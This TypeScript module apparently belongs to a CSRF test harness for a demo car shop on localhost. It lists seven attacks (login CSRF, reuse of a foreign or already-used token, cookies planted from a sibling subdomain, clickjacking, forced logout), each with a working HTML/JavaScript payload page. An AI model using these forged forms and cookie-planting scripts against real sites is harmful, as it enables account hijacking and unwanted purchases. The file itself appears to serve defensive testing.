// Attacks that play with who is logged in, with tokens that are genuine but not the victim's, and
// with cookies planted by a neighbour.
import { emailBody, emailForm, emailOf, form, navigation } from '../attack.ts';
import type { Attack } from '../attack.ts';
import {
  attackerName,
  buysACar,
  emailBecomes,
  isLoggedInAsAttacker,
  isLoggedOut,
} from '../goals.ts';

/** Mallory's own password; he gives it away to draw others into his account. */
export const attackerPassword = 'mallory wants it all';

const loginBody = (token: string): string =>
  new URLSearchParams({ name: attackerName, password: attackerPassword, _csrf: token }).toString();

const loginForm = (shop: string, token: string): string =>
  `<form id="forged" method="post" action="${shop}/login" target="_blank">
  <input type="hidden" name="name" value="${attackerName}">
  <input type="hidden" name="password" value="${attackerPassword}">
  <input type="hidden" name="_csrf" value="${token}">
</form>`;

const send = `<script>
  document.querySelector('#forged').submit();
</script>`;

export const accountAttacks: readonly Attack[] = [
  {
    id: 'login',
    title: "Log the victim in to the attacker's account",
    place: 'elsewhere',
    story:
      'Login forms are often left unprotected, since nobody is logged in yet. What the victim ' +
      'enters afterwards, she enters into the account of the attacker.',
    goal: isLoggedInAsAttacker,
    loot: 'visitor token',
    page: ({ shop, token }) => `${loginForm(shop, token)}\n${send}`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/login',
        contentType: form,
        body: loginBody(here.token),
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'token-of-another',
    title: 'A genuine token of another session',
    place: 'elsewhere',
    story: 'The attacker is a customer too, and puts a token from his own session into the form.',
    goal: emailBecomes(emailOf('token-of-another')),
    loot: 'own token',
    page: ({ shop, token }) =>
      emailForm(
        'token-of-another',
        shop,
        'target="_blank"',
        `\n  <input type="hidden" name="_csrf" value="${token}">`,
      ),
    wire: (here) => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('token-of-another', { _csrf: here.token }),
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'used-token',
    title: 'A token that was used before',
    place: 'elsewhere',
    story: 'The attacker has bought a car and sends the same form again from another browser.',
    goal: buysACar,
    loot: 'used token',
    page: ({ shop, token }) => `<form id="forged" method="post" target="_blank"
      action="${shop}/cars/car-1/buy">
  <input type="hidden" name="_csrf" value="${token}">
</form>
${send}`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/cars/car-1/buy',
        contentType: form,
        body: new URLSearchParams({ _csrf: here.token }).toString(),
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'planted-double-submit',
    title: 'Planted cookies that match a planted token',
    place: 'sibling',
    story:
      'Where a cookie is compared with a field ("double submit"), a neighbouring subdomain can ' +
      'plant the one and send the other.',
    goal: emailBecomes(emailOf('planted-double-submit')),
    page: ({ shop }) => `<script>
  const wide = '; Domain=cars.localhost; Path=/; Secure; SameSite=None';
  for (const name of ['_csrf', 'csrf-token', 'csrfToken', 'XSRF-TOKEN', '__Host-XSRF-TOKEN']) {
    document.cookie = name + '=planted' + wide;
  }
</script>
${emailForm(
  'planted-double-submit',
  shop,
  'target="_blank"',
  '\n  <input type="hidden" name="_csrf" value="planted">',
)}`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('planted-double-submit', { _csrf: 'planted' }),
        plantedCookies: '_csrf=planted; csrf-token=planted; XSRF-TOKEN=planted',
        initiator: navigation(here, 'sibling'),
      },
    ],
  },
  {
    id: 'planted-visitor',
    title: 'A planted visitor, with a genuine token',
    place: 'sibling',
    story:
      'The attacker visits the shop and gets a cookie and a token that belong together. From a ' +
      'neighbouring subdomain he plants the cookie and sends a login form with the token.',
    goal: isLoggedInAsAttacker,
    loot: 'visitor token',
    page: ({ shop, token, visitorCookie }) => `<script>
  const wide = '; Domain=cars.localhost; Path=/; Secure; SameSite=None';
  document.cookie = '__Host-csrf-visitor=${visitorCookie}' + wide;
  document.cookie = '__Host-cars-session=planted' + wide;
  document.cookie = 'csrf-visitor=${visitorCookie}' + wide;
</script>
${loginForm(shop, token)}
${send}`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/login',
        contentType: form,
        body: loginBody(here.token),
        plantedCookies: `csrf-visitor=${here.visitorCookie}`,
        initiator: navigation(here, 'sibling'),
      },
    ],
  },
  {
    id: 'clickjacking',
    title: 'An invisible button under the mouse',
    place: 'elsewhere',
    story:
      'The shop itself, in a frame that one cannot see, with its button under something one ' +
      'wants to click. The form that is sent is genuine, token and all.',
    goal: buysACar,
    lure: 'Then click on the prize.',
    page: ({ shop }) => `<style>
  .prize { position: relative; width: 119px; height: 46px; overflow: hidden; border-radius: 8px;
    background: gold; color: black; font: bold 18px/46px sans-serif; text-align: center }
  /* Moved so that the button of the shop lies exactly here. */
  .prize iframe { position: absolute; left: -20px; top: -640px; width: 400px; height: 900px;
    border: 0; opacity: .01 }
</style>
<div class="prize">My prize!<iframe src="${shop}/cars/car-3"></iframe></div>
<script>
  addEventListener('blur', () => report('A click went into the frame.'));
</script>`,
    wire: () => [],
  },
  {
    id: 'logout',
    title: 'Log the victim out',
    place: 'elsewhere',
    story: 'A nuisance, and the first half of drawing somebody into another account.',
    goal: isLoggedOut,
    page: ({
      shop,
    }) => `<form id="forged" method="post" action="${shop}/logout" target="_blank"></form>
${send}`,
    wire: (here) => [
      { method: 'POST', path: '/logout', contentType: form, body: '', initiator: navigation(here) },
    ],
  },
];
